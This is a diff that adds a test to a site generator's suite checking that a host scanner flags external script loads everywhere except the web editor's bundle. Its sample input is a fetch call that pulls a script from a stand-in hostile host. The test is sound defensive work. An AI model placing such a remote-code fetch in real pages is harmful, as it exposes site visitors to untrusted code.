@@ -156,3 +156,12 @@ def test_the_theme_fetches_nothing_from_unpkg_in_the_built_site(built_site: Path
         assert '"/assets/vendor/resize-observer-polyfill/ResizeObserver.js"' in text
     assert (built_site / "assets" / "vendor" / "resize-observer-polyfill" / "ResizeObserver.js").is_file()
     assert (built_site / "assets" / "javascripts" / "mermaid-absent.js").is_file()
+
+
+def test_only_the_web_editors_bundle_is_not_read_for_addresses() -> None:
+    from generator import hosts
+
+    script = 'fetch("https://evil.example/x.js")'
+    assert hosts.loads_in_text(script, hosts.EDITOR_BUNDLE, "fangyi.cqwomen.example") == []
+    for name in ("admin/other.js", "assets/decap-cms.js", "admin/decap-cms.js.map.js", "x/admin/decap-cms.js"):
+        assert hosts.loads_in_text(script, name, "fangyi.cqwomen.example"), name
